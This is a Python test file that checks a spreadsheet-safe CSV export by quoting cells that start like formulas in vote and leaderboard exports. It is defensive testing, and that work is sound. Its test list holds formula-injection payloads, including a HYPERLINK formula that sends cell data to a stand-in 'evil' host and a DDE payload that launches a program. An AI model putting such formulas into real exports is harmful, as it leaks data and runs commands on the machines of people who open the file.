"""CSV exports are safe to open in a spreadsheet: text that starts like a formula gets a
leading apostrophe (OWASP's advice), numbers stay numbers, and every CSV we write
(votes, run exports, listings, leaderboards) goes through it."""

from __future__ import annotations

import csv
import io

import pytest

from harness.spreadsheet import safe_cell
from review_ui.reports import EXPORT_COLUMNS, to_csv

HOSTILE = ["=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+1.5e3", "-.5", "0", "plain text", "", None, -3, 2.5])
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def test_the_votes_export_quotes_a_hostile_reason() -> None:
    row = dict.fromkeys(EXPORT_COLUMNS, "")
    row.update(reason=HOSTILE[0], annotator="@ann", seconds=-1.5, rating="-3")
    (parsed,) = csv.DictReader(io.StringIO(to_csv([row])))
    assert parsed["reason"] == "'" + HOSTILE[0] and parsed["annotator"] == "'@ann"
    assert parsed["seconds"] == "-1.5" and parsed["rating"] == "-3"


def test_the_leaderboard_csv_quotes_a_hostile_model_name() -> None:
    from leaderboards.data_files import render_csv

    rating = {"rank_ub": 1, "model": "=evil()", "rating": -12.5, "ci_low": -20.0,
              "ci_high": -5.0, "n_battles": 10, "prior_limited": False}
    doc = {"board": {"key": "main", "params": {}, "data_hash": "h", "ratings": [rating]},
           "breakdowns": [], "data_hash": "h"}
    (parsed,) = csv.DictReader(io.StringIO(render_csv(doc)))
    assert parsed["model"] == "'=evil()" and parsed["rating"] == "-12.5"
